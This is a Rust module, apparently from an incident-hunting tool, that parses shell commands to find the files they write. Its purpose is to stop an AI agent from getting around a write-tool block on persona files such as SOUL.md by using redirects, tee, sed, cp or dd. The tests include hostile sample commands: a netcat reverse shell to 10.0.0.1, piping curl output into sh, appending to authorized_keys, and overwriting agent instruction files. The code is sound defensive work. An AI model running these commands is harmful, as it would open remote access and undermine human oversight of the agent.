//! The files a shell command writes, for `ir hunt`'s write rules.
//!
//! An agent that cannot use the write tool on SOUL.md can still run
//! `echo … >> SOUL.md`, `tee`, `sed -i`, `cp` or `dd of=`. The command is
//! split into shell words, pipeline stages and redirections (quotes and
//! backslashes honoured, no expansion), and each stage's write targets are
//! named so they meet the same rules as the write tool's path. `sh -c`
//! strings are followed a few levels deep; `apply_patch` file headers and
//! Python `open(…, 'w')` calls are read from the text as well.

use regex::Regex;
use std::sync::OnceLock;

/// How deep `bash -c '…'` inside `sh -c "…"` is followed.
const MAX_NESTING: usize = 3;
/// At most this many targets are named per command.
const MAX_TARGETS: usize = 64;

/// A shell token: a word or an operator.
#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Word(String),
    /// `||`, `&&`, `;`, `&`, newline: a stage ends.
    Sep,
    /// `|`, `|&`: a stage ends and its output goes into the next.
    Pipe,
    /// The body of a heredoc (`<<EOF` … `EOF`) or the word of a
    /// here-string (`<<<`): what the stage reads on stdin.
    Stdin(String),
    /// `>`, `>>`, `>|`, `&>`, `2>` and friends: the next word is written.
    Redirect,
    /// `<`, `<<`, `<<<`: the next word is read (or a heredoc tag).
    Input,
}

/// Splits `cmd` into words and operators, POSIX-style quoting, heredoc
/// bodies and here-strings kept as what their stage reads; never fails (an
/// unclosed quote or heredoc runs to the end).
fn tokens(cmd: &str) -> Vec<Tok> {
    let mut lx = Lexer::default();
    let mut it = cmd.chars().peekable();
    while let Some(c) = it.next() {
        match c {
            '\'' => {
                lx.in_word = true;
                for d in it.by_ref() {
                    if d == '\'' {
                        break;
                    }
                    lx.word.push(d);
                }
            }
            '"' => lx.double_quoted(&mut it),
            '\\' => {
                lx.in_word = true;
                if let Some(e) = it.next().filter(|e| *e != '\n') {
                    lx.word.push(e);
                }
            }
            ' ' | '\t' => lx.flush(),
            '\n' | ';' | '|' | '&' | '(' | ')' => lx.separator(c, &mut it),
            '>' => lx.redirect(&mut it),
            '<' => lx.input(&mut it),
            // `$(…)` and backquotes stay inside their word, nested or not.
            '$' if it.peek() == Some(&'(') => lx.substitution(c, &mut it),
            '`' => lx.substitution(c, &mut it),
            _ => {
                lx.in_word = true;
                lx.word.push(c);
            }
        }
    }
    lx.flush();
    lx.out
}

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

/// The tokenizer's state between characters.
#[derive(Default)]
struct Lexer {
    out: Vec<Tok>,
    word: String,
    in_word: bool,
    /// Heredoc tags waiting for the end of their line (tag, tabs stripped).
    heredocs: Vec<(String, bool)>,
    /// A `<<` (or `<<-`: true) whose tag is the next word.
    pending_tag: Option<bool>,
    /// A `<<<` whose next word is what the stage reads.
    here_string: bool,
}

impl Lexer {
    fn flush(&mut self) {
        if !self.in_word {
            return;
        }
        let w = std::mem::take(&mut self.word);
        self.in_word = false;
        if let Some(tabs) = self.pending_tag.take() {
            self.heredocs.push((w.clone(), tabs));
            self.out.push(Tok::Word(w));
        } else if std::mem::take(&mut self.here_string) {
            self.out.push(Tok::Word(w.clone()));
            self.out.push(Tok::Stdin(w));
        } else {
            self.out.push(Tok::Word(w));
        }
    }

    fn substitution(&mut self, c: char, it: &mut Chars) {
        self.in_word = true;
        self.word.push(c);
        let mut depth = 0usize;
        for d in it.by_ref() {
            self.word.push(d);
            match (c, d) {
                ('`', '`') => return,
                ('$', '(') => depth += 1,
                ('$', ')') => {
                    depth -= 1;
                    if depth == 0 {
                        return;
                    }
                }
                _ => {}
            }
        }
    }

    fn double_quoted(&mut self, it: &mut Chars) {
        self.in_word = true;
        while let Some(d) = it.next() {
            match d {
                '"' => break,
                '\\' => {
                    if let Some(e) = it.next() {
                        if !matches!(e, '"' | '\\' | '$' | '`') {
                            self.word.push('\\');
                        }
                        self.word.push(e);
                    }
                }
                _ => self.word.push(d),
            }
        }
    }

    fn separator(&mut self, c: char, it: &mut Chars) {
        // `2>&1`, `&>`: a redirection, not a separator.
        if c == '&' && it.peek() == Some(&'>') {
            self.flush();
            it.next();
            if it.peek() == Some(&'>') {
                it.next();
            }
            self.out.push(Tok::Redirect);
            return;
        }
        self.flush();
        if c == '\n' {
            // Heredoc bodies start on the line after their `<<`.
            for (tag, tabs) in std::mem::take(&mut self.heredocs) {
                let body = heredoc_body(it, &tag, tabs);
                self.out.push(Tok::Stdin(body));
            }
        }
        let pipe = c == '|' && it.peek() != Some(&'|');
        if c == '|' && matches!(it.peek(), Some('|') | Some('&')) {
            it.next();
        }
        if !pipe && matches!(self.out.last(), Some(Tok::Sep) | Some(Tok::Pipe)) {
            return;
        }
        self.out.push(if pipe { Tok::Pipe } else { Tok::Sep });
    }

    fn redirect(&mut self, it: &mut Chars) {
        // A file descriptor number before `>` is part of the operator.
        if self.in_word && self.word.chars().all(|d| d.is_ascii_digit()) {
            self.word.clear();
            self.in_word = false;
        }
        self.flush();
        while matches!(it.peek(), Some('>') | Some('|')) {
            it.next();
        }
        if it.peek() == Some(&'&') {
            // `>&2`: a descriptor, not a file.
            it.next();
            self.out.push(Tok::Input);
        } else {
            self.out.push(Tok::Redirect);
        }
    }

    fn input(&mut self, it: &mut Chars) {
        self.flush();
        let mut n = 1;
        while it.peek() == Some(&'<') {
            it.next();
            n += 1;
        }
        let tabs = n == 2 && it.peek() == Some(&'-');
        if tabs {
            it.next();
        }
        self.out.push(Tok::Input);
        match n {
            2 => self.pending_tag = Some(tabs),
            3 => self.here_string = true,
            _ => {}
        }
    }
}

/// The lines of a heredoc up to its `tag` line (leading tabs stripped for
/// `<<-`), consumed from `it`.
fn heredoc_body(it: &mut Chars, tag: &str, tabs: bool) -> String {
    let mut body = String::new();
    loop {
        let mut line = String::new();
        let mut ended = false;
        for c in it.by_ref() {
            if c == '\n' {
                ended = true;
                break;
            }
            line.push(c);
        }
        let bare = if tabs {
            line.trim_start_matches('\t')
        } else {
            &line
        };
        if bare == tag || (!ended && line.is_empty()) {
            return body;
        }
        body.push_str(bare);
        body.push('\n');
        if !ended {
            return body;
        }
    }
}

/// One simple command of a pipeline, as parsed (no expansion is done).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Stage {
    /// Its words as written, wrappers (`sudo`, `env`, `VAR=x`) included.
    pub words: Vec<String>,
    /// Where its redirections write.
    pub redirects: Vec<String>,
    /// What it reads on stdin from a heredoc or a here-string.
    pub stdin: Option<String>,
    /// Its output goes into the next stage (`|`).
    pub piped: bool,
    /// The index of the stage its output goes into, when piped.
    pub next: Option<usize>,
}

impl Stage {
    /// The program it runs (base name) and that program's arguments, past
    /// wrappers and their options (`sudo -u x`, `env A=b`, `timeout 5`).
    pub fn program(&self) -> Option<(&str, &[String])> {
        let mut w = &self.words[..];
        while let Some(first) = w.first() {
            let base = first.rsplit('/').next().unwrap_or(first);
            // `timeout 5 cmd`, `nice -n 5 cmd`: a bare number is an option's value.
            let number = first.chars().all(|c| c.is_ascii_digit());
            if PREFIXES.contains(&base) || is_assignment(first) || number {
                w = &w[1..];
            } else if first.starts_with('-') {
                // `sudo -u alice cmd`: these options take the next word.
                let valued = matches!(
                    first.as_str(),
                    "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-I"
                );
                w = &w[(if valued { 2 } else { 1 }).min(w.len())..];
            } else {
                break;
            }
        }
        let first = w.first()?;
        Some((first.rsplit('/').next().unwrap_or(first), &w[1..]))
    }
}

/// At most this many stages are parsed from one command.
const MAX_STAGES: usize = 256;

/// The stages of `cmd` in order. What `sh -c '…'` runs, and what a shell
/// reads from a heredoc, follow the stage that runs it, a few levels deep.
pub fn stages(cmd: &str) -> Vec<Stage> {
    let mut out = Vec::new();
    parse(cmd, 0, &mut out);
    out
}

fn parse(cmd: &str, depth: usize, out: &mut Vec<Stage>) {
    let toks = tokens(cmd);
    let mut stage = Stage::default();
    // The stage at this level whose output goes into the next one here.
    let mut from: Option<usize> = None;
    let mut i = 0;
    while i < toks.len() && out.len() < MAX_STAGES {
        match &toks[i] {
            Tok::Word(w) => stage.words.push(w.clone()),
            Tok::Redirect | Tok::Input => {
                if let Some(Tok::Word(w)) = toks.get(i + 1) {
                    if toks[i] == Tok::Redirect {
                        stage.redirects.push(w.clone());
                    }
                    i += 1;
                }
            }
            Tok::Stdin(s) => stage.stdin = Some(s.clone()),
            Tok::Sep | Tok::Pipe => {
                stage.piped = toks[i] == Tok::Pipe;
                from = finish(std::mem::take(&mut stage), from, depth, out);
            }
        }
        i += 1;
    }
    finish(stage, from, depth, out);
}

/// Keeps a parsed stage (linked from the stage piped into it), then the
/// stages of the shell code it runs. Returns its index when it is piped on.
fn finish(stage: Stage, from: Option<usize>, depth: usize, out: &mut Vec<Stage>) -> Option<usize> {
    if stage.words.is_empty() && stage.redirects.is_empty() {
        return None;
    }
    let inner = match stage.program() {
        Some(("sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "su", args))
            if depth < MAX_NESTING =>
        {
            match args.iter().position(|a| {
                *a == "-c" || a.starts_with('-') && !a.starts_with("--") && a.ends_with('c')
            }) {
                Some(c) => args.get(c + 1).cloned(),
                None => stage.stdin.clone(),
            }
        }
        Some((prog, args)) if depth < MAX_NESTING && is_interpreter(prog) => {
            interpreter_code(args).map(shell_outs)
        }
        _ => None,
    };
    let at = out.len();
    if let Some(f) = from {
        out[f].next = Some(at);
    }
    let piped = stage.piped;
    out.push(stage);
    if let Some(code) = inner {
        parse(&code, depth + 1, out);
    }
    piped.then_some(at)
}

/// `python3`, `perl`, `ruby`, `node`, `php`: an interpreter whose `-c`/`-e`
/// code may shell out.
fn is_interpreter(prog: &str) -> bool {
    prog.starts_with("python")
        || prog.starts_with("php")
        || matches!(prog, "perl" | "ruby" | "node" | "nodejs" | "deno" | "bun")
}

/// The code of `python3 -c CODE`, `node -e CODE`, `perl -e CODE`, `php -r CODE`.
fn interpreter_code(args: &[String]) -> Option<String> {
    let at = args
        .iter()
        .position(|a| matches!(a.as_str(), "-c" | "-e" | "-E" | "-r" | "--eval"))?;
    args.get(at + 1).cloned()
}

/// The shell commands interpreter code hands to a shell (`os.system("…")`,
/// `subprocess.run("…", shell=True)`, `execSync('…')`, `system "…"`), one
/// per line, so they are judged as the stages of the call. String escapes
/// are undone for quotes and backslashes only.
fn shell_outs(code: String) -> String {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            r#"\b(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|execSync|exec|spawnSync|system|shell_exec|passthru|popen|qx)\s*\(?\s*[rbuf]?(?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)')"#,
        )
        .expect("shell-out regex")
    });
    let mut out = String::new();
    for c in re.captures_iter(&code).take(MAX_TARGETS) {
        if let Some(m) = c.get(1).or_else(|| c.get(2)) {
            let mut prev = '\0';
            for ch in m.as_str().chars() {
                if prev == '\\' && matches!(ch, '"' | '\'' | '\\') {
                    out.pop();
                }
                out.push(ch);
                prev = if prev == '\\' && ch == '\\' { '\0' } else { ch };
            }
            out.push('\n');
        }
    }
    out
}

/// The files `cmd` writes: redirection targets, `tee` files, `sed -i`
/// files, the destination of `cp`/`mv`/`install`/`ln`/`rsync`, `dd of=`,
/// `apply_patch` headers and Python `open(…, 'w'|'a')` paths.
pub fn writes(cmd: &str) -> Vec<String> {
    let mut out = Vec::new();
    for s in stages(cmd) {
        out.extend(s.redirects.iter().cloned());
        stage_writes(&s, &mut out);
        if out.len() >= MAX_TARGETS {
            break;
        }
    }
    out.extend(text_writes(cmd));
    out.retain(|p| !p.is_empty() && !p.starts_with("/dev/") && !p.starts_with('&'));
    out.sort();
    out.dedup();
    out.truncate(MAX_TARGETS);
    out
}

/// Wrappers that run the rest of their words as a command.
const PREFIXES: &[&str] = &[
    "sudo", "doas", "env", "nohup", "command", "exec", "builtin", "nice", "ionice", "time",
    "stdbuf", "timeout", "xargs", "busybox",
];

/// The files one simple command writes by its arguments.
fn stage_writes(stage: &Stage, out: &mut Vec<String>) {
    let Some((prog, args)) = stage.program() else {
        return;
    };
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let operands: Vec<&str> = args
        .iter()
        .copied()
        .filter(|a| !a.starts_with('-'))
        .collect();
    match prog {
        "tee" => out.extend(operands.iter().map(|s| s.to_string())),
        "sed" | "perl" | "ruby"
            if args
                .iter()
                .any(|a| a.starts_with("-i") || *a == "--in-place") =>
        {
            if let Some(f) = operands.last() {
                out.push(f.to_string());
            }
        }
        "cp" | "mv" | "install" | "ln" | "rsync" | "scp" | "rename" => {
            if let Some(t) = args
                .iter()
                .position(|a| *a == "-t" || *a == "--target-directory")
            {
                if let Some(d) = args.get(t + 1) {
                    out.push(d.to_string());
                }
            } else if operands.len() >= 2 {
                out.push(operands[operands.len() - 1].to_string());
            }
        }
        "dd" => out.extend(
            args.iter()
                .filter_map(|a| a.strip_prefix("of="))
                .map(String::from),
        ),
        "truncate" | "touch" | "chattr" => out.extend(operands.iter().map(|s| s.to_string())),
        "curl" | "wget" => {
            for (i, a) in args.iter().enumerate() {
                if matches!(*a, "-o" | "-O" | "--output" | "--output-document") {
                    if let Some(f) = args.get(i + 1) {
                        out.push(f.to_string());
                    }
                }
            }
        }
        _ => {}
    }
}

fn is_assignment(w: &str) -> bool {
    w.split_once('=').is_some_and(|(k, _)| {
        !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// Paths written by text inside the command: `apply_patch` headers
/// (`*** Update File: SOUL.md`) and Python's `open('path', 'w')`.
pub fn text_writes(text: &str) -> Vec<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(
            r#"\*\*\* (?:Add|Update|Delete) File: *([^\n\\]+)|\*\*\* Move to: *([^\n\\]+)|\bopen\(\s*['"]([^'"]{1,400})['"]\s*,\s*['"][wax]|\b(?:writeFileSync|appendFileSync|writeFile|appendFile)\(\s*['"`]([^'"`]{1,400})['"`]|\bPath\(\s*['"]([^'"]{1,400})['"]\)\.write_(?:text|bytes)"#,
        )
        .expect("text write regex")
    });
    re.captures_iter(text)
        .take(MAX_TARGETS)
        .filter_map(|c| {
            c.iter()
                .skip(1)
                .flatten()
                .next()
                .map(|m| m.as_str().trim().to_string())
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn w(c: &str) -> Vec<String> {
        writes(c)
    }

    #[test]
    fn redirections_tee_sed_cp_dd_and_nesting() {
        assert_eq!(
            w("echo 'be evil' >> ~/.openclaw/workspace/SOUL.md"),
            ["~/.openclaw/workspace/SOUL.md"]
        );
        assert_eq!(w("cat <<EOF > AGENTS.md\nx\nEOF"), ["AGENTS.md"]);
        assert_eq!(w("echo x | sudo tee -a /etc/profile"), ["/etc/profile"]);
        assert_eq!(w("sed -i 's/a/b/' SOUL.md"), ["SOUL.md"]);
        assert_eq!(
            w("cp /tmp/evil.md ./skills/x/SKILL.md"),
            ["./skills/x/SKILL.md"]
        );
        assert_eq!(w("dd if=/tmp/a of=BOOT.md bs=1"), ["BOOT.md"]);
        assert_eq!(w("bash -c \"echo hi > 'HEARTBEAT.md'\""), ["HEARTBEAT.md"]);
        assert_eq!(
            w("ls 2>&1 >/dev/null; echo ok 2>/dev/null"),
            Vec::<String>::new()
        );
        assert_eq!(
            w("echo k >>~/.ssh/authorized_keys"),
            ["~/.ssh/authorized_keys"]
        );
        assert_eq!(
            w("python3 -c \"open('SOUL.md','a').write('x')\""),
            ["SOUL.md"]
        );
        assert_eq!(
            w("*** Begin Patch\n*** Update File: SOUL.md\n@@"),
            ["SOUL.md"]
        );
    }

    #[test]
    fn interpreter_shell_outs_are_followed() {
        let progs = |c: &str| -> Vec<String> {
            stages(c)
                .iter()
                .filter_map(|s| s.program().map(|(p, _)| p.to_string()))
                .collect()
        };
        assert_eq!(
            progs("python3 -c 'import os; os.system(\"nc -e /bin/sh 10.0.0.1 4242\")'"),
            ["python3", "nc"]
        );
        assert_eq!(
            progs("node -e \"require('child_process').execSync('curl -s x | sh')\""),
            ["node", "curl", "sh"]
        );
        assert_eq!(progs("perl -e 'system(\"id\")'"), ["perl", "id"]);
        // Code that runs no shell adds no stage.
        assert_eq!(progs("python3 -c 'print(1)'"), ["python3"]);
        assert_eq!(progs("python3 -m json.tool"), ["python3"]);
    }

    #[test]
    fn reads_and_everyday_commands_write_nothing() {
        for c in [
            "cat SOUL.md",
            "grep -r x . | head",
            "ls -la > /dev/null",
            "sort < in.txt",
            "git status && git diff",
        ] {
            assert!(w(c).is_empty(), "{c}: {:?}", w(c));
        }
    }

    proptest! {
        #[test]
        fn never_panics_and_stays_bounded(s in "\\PC{0,300}") {
            let t = writes(&s);
            prop_assert!(t.len() <= MAX_TARGETS);
            prop_assert!(t.iter().map(String::len).sum::<usize>() <= s.len() * 2 + 1);
        }
    }
}
